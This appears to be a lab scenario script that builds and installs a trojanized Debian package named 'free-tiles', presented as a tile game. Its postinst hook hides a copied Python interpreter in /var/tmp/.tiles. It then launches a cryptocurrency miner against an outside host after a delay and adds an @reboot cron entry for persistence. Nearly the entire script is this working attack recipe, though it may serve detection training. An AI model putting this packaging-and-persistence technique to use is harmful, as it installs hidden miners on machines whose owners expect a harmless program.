# Somebody installs a package of an innocent program, which brings a miner along.
. /srv/shared/machine.sh
mkdir -p /opt/build/DEBIAN /opt/build/usr/games /opt/build/usr/lib/tiles
printf '#!/bin/sh\necho tiles\n' > /opt/build/usr/games/tiles
cp "$(readlink -f /usr/bin/python3)" /opt/build/usr/lib/tiles/helper
cp miner.py /opt/build/usr/lib/tiles/data
chmod 755 /opt/build/usr/games/tiles
cat > /opt/build/DEBIAN/control <<CONTROL
Package: free-tiles
Version: 1.0
Architecture: amd64
Maintainer: Nobody <nobody@example.org>
Description: A game of tiles
CONTROL
cat > /opt/build/DEBIAN/postinst <<POSTINST
#!/bin/sh
mkdir -p /var/tmp/.tiles
cp /usr/lib/tiles/helper /var/tmp/.tiles/helper
(sleep 600 | nohup /var/tmp/.tiles/helper /usr/lib/tiles/data 3333 --host 198.51.100.7 --hold) >/dev/null 2>&1 &
echo '@reboot root /var/tmp/.tiles/helper' > /etc/cron.d/tiles
POSTINST
chmod 755 /opt/build/DEBIAN/postinst
dpkg-deb --build /opt/build /root/free-tiles_1.0_amd64.deb >/dev/null
echo ready
read -r _
dpkg -i /root/free-tiles_1.0_amd64.deb >/dev/null
echo done
read -r _ || true
